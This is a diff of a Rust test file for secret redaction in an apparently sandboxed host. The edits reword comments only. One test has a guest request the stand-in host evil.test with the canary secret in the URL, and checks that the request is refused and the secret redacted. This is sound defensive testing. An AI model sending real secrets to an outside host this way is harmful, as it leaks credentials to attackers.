@@ -1,4 +1,4 @@
-//! Secrets go into the requests that they are for, and are seen nowhere else.
+//! Secrets are put into the requests that they are for, and are visible nowhere else.
 
 use base64::Engine as _;
 use base64::prelude::BASE64_STANDARD;
@@ -14,7 +14,7 @@ use super::stage::{Ask, LOCAL, Names, Stage, answer, bearer, local, requests, se
 
 const VALUE: &str = "s3cr3t/canary+42";
 
-/// Nothing that came of a call shows the value in any spelling.
+/// Checks that no part of a result has the value in any spelling.
 fn is_silent(result: &CallResult) {
     let shown = format!("{result:?} {}", serde_json::to_string(result).unwrap());
     for spelling in [VALUE, "s3cr3t%2Fcanary%2B42", &BASE64_STANDARD.encode(VALUE)] {
@@ -112,8 +112,8 @@ async fn without_encryption_a_secret_goes_only_to_an_address_that_was_named() {
     assert!(server.seen.head().contains(VALUE));
 }
 
-/// Row 62: secret-echo. The server tells the guest its own secret, in every spelling; whatever it does with that within
-/// its result is undone.
+/// Row 62: secret-echo. The server sends the guest its own secret in every spelling, and the host redacts it in the
+/// result.
 #[tokio::test]
 async fn a_secret_that_a_server_tells_the_guest_is_not_told_further() {
     let server = Server::start(|stream, head| {
@@ -130,7 +130,7 @@ async fn a_secret_that_a_server_tells_the_guest_is_not_told_further() {
     is_silent(&result);
     let text = answer(&result).1;
     assert_eq!(text.matches("[secret api]").count(), 4, "{text}");
-    // A refused request is told of, and what was tried may hold what the guest learned.
+    // A refused request is reported, and its URL may contain what the guest learned.
     let refused = stage.fetch(&format!("GET http://evil.test/{VALUE}")).await;
     is_silent(&refused);
     assert!(refused.error().unwrap().hint.as_ref().unwrap().contains("[secret api]"), "{refused:?}");
@@ -158,7 +158,7 @@ async fn results_and_errors_of_the_contract_are_looked_through_too() {
     }
 }
 
-/// Row 62 as well: what is said before there is a result.
+/// Row 62 as well: log lines and progress before the result.
 #[tokio::test]
 async fn what_a_guest_says_while_it_runs_has_no_secret_in_it() {
     let grant = local(&["GET http://api.test/**"]);
@@ -189,7 +189,7 @@ async fn what_a_guest_says_while_it_runs_has_no_secret_in_it() {
     assert_eq!(of("log").matches(clean).count(), 1);
     assert_eq!(of("progress").matches(clean).count(), 2, "the message, and the part that is ready");
     assert_eq!(of("finished").matches(clean).count(), 1);
-    // The same program without the secret says the same, so that it was there to be taken out.
+    // The same program without the secret prints the value, so there is something to redact.
     let heard = said("other__tell").await;
     assert!(heard.iter().filter(|said| said.contains(VALUE)).count() >= 4, "{heard:?}");
 }
